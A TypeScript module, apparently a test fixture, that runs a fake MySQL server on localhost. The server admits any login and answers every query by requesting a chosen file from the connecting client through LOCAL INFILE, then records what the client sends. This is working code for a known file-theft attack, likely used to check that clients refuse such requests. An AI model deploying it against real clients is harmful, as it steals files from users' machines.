import { once } from 'node:events'
import { createServer, type AddressInfo, type Socket } from 'node:net'

export interface RogueMysql {
  host: string
  port: number
  /** Everything that a client sent after it was asked for the file. */
  got: () => string
  close: () => Promise<void>
}

const packet = (sequence: number, body: Buffer): Buffer => {
  const head = Buffer.alloc(4)
  head.writeUIntLE(body.length, 0, 3)
  head[3] = sequence
  return Buffer.concat([head, body])
}

/** PROTOCOL_41, CONNECT_WITH_DB, LOCAL_FILES, SECURE_CONNECTION, PLUGIN_AUTH, TRANSACTIONS: what an ordinary server without TLS says it can. */
const CAPABILITIES = 0x1 | 0x2 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000

function greeting(): Buffer {
  const low = Buffer.alloc(2)
  low.writeUInt16LE(CAPABILITIES & 0xffff)
  const high = Buffer.alloc(2)
  high.writeUInt16LE(CAPABILITIES >>> 16)
  const start = [Buffer.from([10]), Buffer.from('8.0.36\0'), Buffer.from([1, 0, 0, 0]), Buffer.from('abcdefgh'), Buffer.from([0])]
  const end = [
    low,
    Buffer.from([45, 2, 0]),
    high,
    Buffer.from([21]),
    Buffer.alloc(10),
    Buffer.from('ijklmnopqrst\0'),
    Buffer.from('mysql_native_password\0')
  ]
  return packet(0, Buffer.concat([...start, ...end]))
}

const OK = (sequence: number): Buffer => packet(sequence, Buffer.from([0, 0, 0, 2, 0, 0, 0]))

/** Lets anybody in and answers every statement by asking for a file of the client's machine. */
export async function startRogueMysql(path: string): Promise<RogueMysql> {
  const sockets = new Set<Socket>()
  let got = ''
  const server = createServer((socket) => {
    sockets.add(socket)
    let state: 'login' | 'asked' | 'idle' = 'login'
    socket.write(greeting())
    socket.on('error', () => undefined)
    socket.on('data', (data) => {
      if (state === 'login') {
        state = 'idle'
        socket.write(OK(2))
      } else if (state === 'idle') {
        state = 'asked'
        socket.write(packet(1, Buffer.concat([Buffer.from([0xfb]), Buffer.from(path)])))
      } else {
        got += data.toString('latin1')
        socket.write(OK(data.length > 4 ? 4 : 3))
        state = 'idle'
      }
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    host: '127.0.0.1',
    port: (server.address() as AddressInfo).port,
    got: () => got,
    close: async () => {
      for (const socket of sockets) socket.destroy()
      server.close()
      await once(server, 'close')
    }
  }
}
